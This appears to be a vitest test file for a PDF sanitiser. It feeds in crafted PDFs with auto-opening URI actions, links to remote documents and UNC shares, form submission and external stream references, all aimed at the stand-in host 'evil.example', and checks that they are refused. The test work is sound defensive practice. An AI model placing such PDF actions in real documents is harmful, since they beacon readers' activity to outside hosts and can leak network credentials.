import { PDFContext } from '@cantoo/pdf-lib'
import { describe, expect, it } from 'vitest'
import { pdf } from '#lib/server/testing/files.ts'
import { toHarmlessPdf } from './harmless-pdf.ts'

const URI = '<</S/URI/URI(https://evil.example/seen)>>'
/** A PDF with further objects after the catalog. */
const withObjects = (catalog: string, objects: string) =>
  Buffer.from(pdf(catalog).toString('latin1').replace('trailer', `${objects}\ntrailer`), 'latin1')

describe('R27 a document does nothing by itself and reaches nobody', () => {
  it.each<[string, Buffer]>([
    ['opens an address as it is opened', pdf(`/OpenAction${URI}`)],
    ['opens one behind a harmless move', pdf(`/OpenAction<</S/GoTo/D[0/Fit]/Next${URI}>>`)],
    ['opens one among many', pdf(`/OpenAction<</S/GoTo/D[0/Fit]/Next[<</S/Named/N/NextPage>>${URI}]>>`)],
    ['opens one that stands elsewhere', withObjects('/OpenAction 9 0 R', `9 0 obj${URI}endobj`)],
    ['opens one as it is closed', pdf(`/AA<</WC${URI}>>`)],
    [
      'opens one as a page is shown',
      withObjects('', `9 0 obj<</Type/Page/AA 8 0 R>>endobj 8 0 obj<</O 7 0 R>>endobj 7 0 obj${URI}endobj`),
    ],
    [
      'opens one by an object that a later one replaces',
      withObjects('/OpenAction 9 0 R', `9 0 obj${URI}endobj 9 0 obj[0/Fit]endobj`),
    ],
    ['goes to a share', pdf('/AA<</O<</S/GoToE/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>>>')],
    ['goes to another document', pdf('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>')],
    ['goes there when pressed', withObjects('', '9 0 obj<</Type/Annot/A<</S/Go#54oR/F(x)>>>>endobj')],
    // Without a file of its own: it names one by its place in this document.
    [
      'goes to a document inside it',
      withObjects('', '9 0 obj<</Type/Annot/A<</S/GoToE/T<</R/C/N(x)>>>>>>endobj'),
    ],
    ['goes to one by reference', withObjects('', '9 0 obj<</Type/Annot/A<</S/GoToR/F 8 0 R>>>>endobj')],
    ['sends its form', pdf('/OpenAction<</S/SubmitForm/F(https://evil.example)>>')],
    ['fills its form from elsewhere', pdf('/OpenAction<</S/ImportData/F(x)>>')],
    [
      'has bytes that lie elsewhere',
      withObjects('', '9 0 obj<</Length 0/F(\\\\\\\\evil.example\\\\x)>>stream\n\nendstream endobj'),
    ],
    [
      'shows a page of another document',
      withObjects(
        '',
        '9 0 obj<</Subtype/Form/Ref<</F(\\\\\\\\evil.example\\\\x)/Page 0>>/Length 0>>stream\n\nendstream endobj',
      ),
    ],
    [
      'prints a picture that lies elsewhere',
      withObjects(
        '',
        '9 0 obj<</Subtype/Image/OPI<</2.0<</F<5c5c6576696c>>>>>/Length 0>>stream\n\nendstream endobj',
      ),
    ],
    [
      'plays what lies elsewhere',
      withObjects(
        '',
        '9 0 obj<</Subtype/Movie/Movie<</F<</UF 8 0 R>>>>>>endobj 8 0 obj(//evil.example/x)endobj',
      ),
    ],
    [
      'prints what a file elsewhere holds, which it names in another way',
      withObjects(
        '',
        '9 0 obj<</Subtype/Image/OPI<</2.0<</F<</UF 8 0 R>>>>>>/Length 0>>stream\n\nendstream endobj 8 0 obj(//evil.example/x)endobj',
      ),
    ],
  ])('one that %s is refused', async (_, bytes) => {
    expect(await toHarmlessPdf(bytes)).toBeUndefined()
  })

  it.each<[string, Buffer]>([
    ['a link that is pressed', withObjects('', `9 0 obj<</Type/Annot/Subtype/Link/A${URI}>>endobj`)],
    ['a page to begin with', pdf('/OpenAction[2 0 R/FitH 0]')],
    ['a page to begin with as a move', pdf('/OpenAction<</S/GoTo/D[2 0 R/Fit]>>')],
    ['a move without end', withObjects('/OpenAction 9 0 R', '9 0 obj<</S/GoTo/D[0/Fit]/Next 9 0 R>>endobj')],
    ['a note with flags', withObjects('', '9 0 obj<</Type/Annot/Subtype/Text/F 4/Contents(F)>>endobj')],
    ['a letter that is called so', withObjects('', '9 0 obj<</Font<</F 8 0 R>>>>endobj 8 0 obj<<>>endobj')],
    [
      'a name that says so',
      withObjects('', '9 0 obj<</Type/Page/Resources<</Font<</AA<</Type/Font>>>>>>>>endobj'),
    ],
  ])('%s is fine', async (_, bytes) => {
    expect(await toHarmlessPdf(bytes)).toBeInstanceOf(Buffer)
  })

  it.each([
    [9_998, true],
    [9_999, false],
  ])('a document of a catalog, its pages and %i more objects is taken: %s', async (count, isTaken) => {
    const objects = Array.from({ length: count }, (_, at) => `${at + 9} 0 obj<<>>endobj`).join('\n')
    expect((await toHarmlessPdf(withObjects('', objects))) !== undefined).toBe(isTaken)
  })

  it('leaves the parser as it was', async () => {
    const { assign } = PDFContext.prototype
    await toHarmlessPdf(pdf())
    expect(PDFContext.prototype.assign).toBe(assign)
  })
})
